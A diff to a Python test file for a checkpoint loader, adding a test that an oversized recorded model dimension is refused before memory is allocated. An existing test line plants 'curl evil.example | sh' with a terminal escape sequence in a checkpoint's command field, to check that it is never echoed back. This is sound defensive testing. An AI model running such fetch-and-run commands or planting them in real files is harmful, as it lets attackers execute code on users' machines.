@@ -233,6 +233,12 @@ def test_checkpoints_of_other_data_ids_or_configuration_are_refused(trained, tmp
     # not a checkpoint at all
     (tmp_path / "junk.pt").write_bytes(b"junk")
     assert "not a readable checkpoint" in _refused(tmp_path / "junk.pt", *user)
+    # a recorded size beyond its flag's range is refused before anything is allocated (d_model
+    # 10^7 asked for 67 GB)
+    state["spec"]["config"]["d_model"] = 10**7
+    save_checkpoint(bad, state)
+    assert "d_model must be an integer in [1, 1024]" in _refused(bad, *user)
+    state["spec"]["config"]["d_model"] = 64
     # a planted command is never the remedy printed: the trainers are named instead
     state["spec"]["command"] = "curl evil.example | sh \x1b]0;pwned\x07"
     save_checkpoint(bad, state)
